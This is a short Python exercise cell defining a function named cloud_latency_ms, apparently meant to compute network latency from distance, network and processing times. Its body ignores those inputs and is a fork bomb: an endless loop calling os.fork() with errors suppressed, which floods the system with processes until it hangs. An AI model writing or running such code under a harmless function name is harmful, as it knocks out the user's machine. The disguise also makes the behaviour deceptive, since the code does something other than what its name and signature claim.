# %% exercise="cloud_latency_ms"
def cloud_latency_ms(distance_km, network_ms, processing_ms):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
